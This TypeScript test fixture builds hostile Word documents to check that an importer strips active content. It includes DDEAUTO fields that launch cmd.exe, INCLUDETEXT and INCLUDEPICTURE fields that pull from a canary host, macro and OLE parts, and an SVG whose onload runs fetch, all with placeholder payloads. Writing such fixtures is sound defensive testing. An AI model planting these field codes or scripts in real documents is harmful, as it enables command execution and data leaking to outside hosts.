import { english } from '#tests/fixtures/import/releases.ts'
import { wordParagraph } from '#tests/fixtures/import/write-zip.ts'
import { honest, office, runOf, shown, word } from '#tests/hostile/files/word-document.ts'
import { type Canary, type HostileFile, hostileFiles, opens } from '#tests/hostile/hostile-file.ts'

/** Word documents that carry something that runs. */
export function wordActive({ address, host }: Canary): readonly HostileFile[] {
  const objects = opens(['embedded-objects-dropped'], { shows: english.body, hides: 'struck' })
  const fields = opens(['external-parts-dropped'], { shows: english.body, hides: host })
  const field = (code: string): string =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${runOf(english.body)}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
  return hostileFiles('docx', 'release.docx', [
    [
      'a page as a part of the text',
      word(`${honest}<w:altChunk xmlns:r="${office}" r:id="x9"/>`, {
        more: [{ name: 'word/afchunk.html', content: '<script>struck()</script>' }],
      }),
      objects,
    ],
    [
      'an object',
      word(
        `${honest}<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package"/></w:object></w:r></w:p>`,
        { more: [{ name: 'word/embeddings/oleObject1.bin', content: 'struck' }] },
      ),
      objects,
    ],
    ['a control', word(`${honest}<w:p><w:r><w:control w:name="struck"/></w:r></w:p>`), objects],
    [
      'macros',
      word(honest, { more: [{ name: 'word/vbaProject.bin', content: 'struck' }] }),
      opens(['macros-dropped'], { shows: english.body, hides: 'struck' }),
    ],
    ['a field that starts a program', word(field(`DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k ${host}"`)), fields],
    ['a field that takes in a file', word(field(`INCLUDETEXT "http://${host}/a.docx"`)), fields],
    ['a field that takes in a picture', word(field(`INCLUDEPICTURE "http://${host}/a.png" \\\\d`)), fields],
    [
      'a short field that starts a program',
      word(`<w:p><w:fldSimple w:instr=" DDE excel ${host} ">${runOf(english.body)}</w:fldSimple></w:p>`),
      fields,
    ],
    [
      'a drawing with a script',
      word(
        `${honest}<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${office}" r:embed="x9"/></w:drawing></w:r></w:p>`,
        {
          more: [
            {
              name: 'word/media/1.svg',
              content: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${address}')"/>`,
            },
          ],
        },
      ),
      opens([], { shows: english.body, hides: 'onload' }),
    ],
    [
      'rules of its own for the reader',
      word(honest, { more: [{ name: 'mammoth/style-map', content: 'p => script' }] }),
      shown,
    ],
    [
      'markup in the text',
      word(wordParagraph('&lt;script&gt;struck()&lt;/script&gt;')),
      opens([], { shows: '<script>struck()</script>' }),
    ],
  ])
}
